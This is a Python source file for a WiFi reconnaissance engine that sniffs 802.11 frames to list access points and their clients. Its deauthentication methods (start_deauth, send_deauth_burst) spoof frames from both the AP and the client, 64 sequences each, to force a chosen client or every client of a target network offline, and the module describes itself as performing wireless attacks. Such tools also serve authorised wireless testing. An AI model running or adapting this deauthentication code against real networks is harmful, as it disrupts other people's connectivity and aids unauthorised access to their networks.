"""WiFiRecon: 802.11 discovery and deauthentication engine.

The engine owns the capture device, the WiFi station registry and the
traffic counters.  A single background thread pulls frames off the device
and feeds them to the classifiers; every other call (start/stop, filters,
show, deauth) runs on the caller's thread against the same lock-protected
state.

Two discovery modes, selected per frame by the access point filter:
- no filter: beacons sent to broadcast register access points by BSSID/SSID
- filter set: station -> AP data frames register that AP's clients
"""

import logging
import threading
import time
from typing import Callable, List, Optional

from scapy.error import Scapy_Exception

from .aliases import AliasStore
from .capture import CaptureDevice
from .constants import (
    _DEAUTH_PACKET_DELAY, _DEAUTH_SEQUENCES, _DOT11_SUBTYPE_DEAUTH,
    _MISSED_AFTER, _REASON_CLASS2_FROM_NONAUTH, _STOP_JOIN_TIMEOUT,
    _TABLE_HEADER,
)
from .detection import (
    discover_access_point, discover_client, frame_addresses, frame_length,
)
from .errors import (
    AlreadyRunningError, NotRunningError, ReconError, TargetError,
    TransientIOError,
)
from .output import Thresholds, build_row, print_table, sort_stations
from .packets import new_dot11_deauth
from .registry import EndpointCallback, EndpointRegistry, Interface, new_wifi
from .stats import TrafficStats
from .utils import _parse_mac

logger = logging.getLogger(__name__)


class WiFiRecon:
    name = "wifi.recon"
    description = "A module to monitor and perform wireless attacks on 802.11."

    def __init__(
        self,
        interface: str,
        aliases: Optional[AliasStore] = None,
        stats: Optional[TrafficStats] = None,
        on_new: Optional[EndpointCallback] = None,
        on_lost: Optional[EndpointCallback] = None,
        missed_after: float = _MISSED_AFTER,
        thresholds: Thresholds = Thresholds(),
        device_factory: Callable[[str], CaptureDevice] = CaptureDevice,
        frame_builder: Callable[..., bytes] = new_dot11_deauth,
        clock: Callable[[], float] = time.time,
    ):
        self.interface = interface
        self.aliases = aliases if aliases is not None else AliasStore()
        self.stats = stats if stats is not None else TrafficStats()
        self.missed_after = missed_after
        self.thresholds = thresholds
        self.started_at = clock()

        self.wifi: Optional[EndpointRegistry] = None
        self.access_point = ""
        self.client = ""

        self._on_new = on_new
        self._on_lost = on_lost
        self._device_factory = device_factory
        self._frame_builder = frame_builder
        self._clock = clock

        self._lock = threading.RLock()
        self._handle: Optional[CaptureDevice] = None
        self._running: Optional[threading.Event] = None
        self._thread: Optional[threading.Thread] = None

    # -----------------------------------------------------------------------
    # Lifecycle
    # -----------------------------------------------------------------------

    @property
    def running(self) -> bool:
        return self._running is not None and self._running.is_set()

    def configure(self):
        """Open the capture device; raises ConfigurationError on failure."""
        device = self._device_factory(self.interface)
        device.open()
        self._handle = device

        if self.wifi is None:
            self.wifi = new_wifi(
                Interface(self.interface),
                self._on_new, self._on_lost,
                aliases=self.aliases,
                missed_after=self.missed_after,
                clock=self._clock,
            )

    def start(self):
        with self._lock:
            if self.running:
                raise AlreadyRunningError(self.name)
            self.configure()

            running = threading.Event()
            running.set()
            self._running = running
            self._thread = threading.Thread(
                target=self._capture_loop, args=(self._handle, running),
                name=self.name, daemon=True,
            )
            self._thread.start()
        logger.info("%s started on %s", self.name, self.interface)

    def stop(self, wait: bool = False):
        with self._lock:
            if not self.running:
                raise NotRunningError(self.name)
            self._running.clear()
            thread = self._thread
        logger.info("%s stopping", self.name)
        if wait and thread is not None and thread is not threading.current_thread():
            thread.join(timeout=_STOP_JOIN_TIMEOUT)

    def _capture_loop(self, handle: CaptureDevice, running: threading.Event):
        try:
            while running.is_set():
                try:
                    pkt = handle.read()
                except (OSError, Scapy_Exception) as e:
                    logger.error("capture on %s failed: %s", self.interface, e)
                    break
                if not running.is_set():
                    break
                if pkt is None:
                    continue
                try:
                    self.process_packet(pkt)
                except Exception:
                    logger.exception("%s could not process frame", self.name)
        finally:
            running.clear()
            handle.close()
            with self._lock:
                if self._handle is handle:
                    self._handle = None
            logger.info("%s capture loop exited", self.name)

    # -----------------------------------------------------------------------
    # Frame processing (capture thread)
    # -----------------------------------------------------------------------

    def process_packet(self, pkt):
        self.update_stats(pkt)
        # a filter change must not interleave with classifying a frame
        with self._lock:
            ap = self.access_point
            if not ap:
                self.discover_access_points(pkt)
            else:
                self.discover_clients(ap, pkt)

    def update_stats(self, pkt):
        # The same frame is credited to every address it carries, regardless
        # of direction: totals are "bytes seen involving this address".
        n_bytes = frame_length(pkt)
        for addr in frame_addresses(pkt):
            self.stats.collect(addr, n_bytes)

    def discover_access_points(self, pkt):
        found = discover_access_point(pkt)
        if found is None:
            return
        ssid, bssid, channel = found
        self.wifi.add_if_new(ssid, bssid, True, channel)

    def discover_clients(self, bssid: str, pkt):
        found = discover_client(pkt, bssid)
        if found is None:
            return
        station, channel = found
        self.wifi.add_if_new("", station, False, channel)

    # -----------------------------------------------------------------------
    # Filters
    # -----------------------------------------------------------------------

    def _reset_target_state(self):
        if self.wifi is not None:
            self.wifi.clear()
        self.aliases.clear(persist=False)

    def set_access_point(self, mac: str):
        bssid = _parse_mac(mac)
        with self._lock:
            self._reset_target_state()
            self.access_point = bssid

    def clear_access_point(self):
        with self._lock:
            self._reset_target_state()
            self.access_point = ""

    def set_client(self, mac: str):
        self.client = _parse_mac(mac)

    def clear_client(self):
        self.client = ""

    # -----------------------------------------------------------------------
    # Deauthentication
    # -----------------------------------------------------------------------

    def start_deauth(self) -> int:
        """Deauth the selected client, or every known client of the selected AP.

        Returns the number of frames written.
        """
        ap, client = self.access_point, self.client
        if not ap:
            raise TargetError("No base station or client set.")
        if self._handle is None:
            raise NotRunningError(self.name)

        if client:
            return self.send_deauth_burst(ap, client)

        sent = 0
        for station in self.wifi.list():
            if station.hw_address == ap:
                continue
            sent += self.send_deauth_burst(ap, station.hw_address)
        return sent

    def send_deauth_burst(self, ap: str, client: str) -> int:
        """Two spoofed deauth frames per sequence number 0..63.

        For each sequence number the AP is impersonated toward the client,
        then the client toward the AP.  A frame that cannot be built or
        written is logged and the burst moves on to the next sequence number.
        """
        sent = 0
        for seq in range(_DEAUTH_SEQUENCES):
            for dst, src in ((client, ap), (ap, client)):
                try:
                    frame = self._frame_builder(
                        dst, src, ap, _DOT11_SUBTYPE_DEAUTH,
                        _REASON_CLASS2_FROM_NONAUTH, seq,
                    )
                    self._write(frame)
                except TransientIOError as e:
                    logger.error("Could not send deauth packet: %s", e)
                    break
                sent += 1
                time.sleep(_DEAUTH_PACKET_DELAY)
        logger.info("sent %d deauth frames to %s / %s", sent, ap, client)
        return sent

    def _write(self, frame: bytes):
        handle = self._handle
        if handle is None:
            raise TransientIOError(f"{self.name} capture device is closed")
        handle.write(frame)

    # -----------------------------------------------------------------------
    # Reporting
    # -----------------------------------------------------------------------

    def rows(self, by: str = "essid") -> List[List[str]]:
        if self.wifi is None:
            raise ReconError("WiFi is not yet initialized.")
        self.wifi.prune_missed()
        now = self._clock()
        return [
            build_row(s, self.stats, self.started_at, now, self.thresholds)
            for s in sort_stations(self.wifi.list(), by)
        ]

    def show(self, by: str = "essid") -> List[List[str]]:
        rows = self.rows(by)
        print_table(_TABLE_HEADER, rows)
        return rows

    def to_json(self) -> str:
        if self.wifi is None:
            raise ReconError("WiFi is not yet initialized.")
        return self.wifi.to_json()
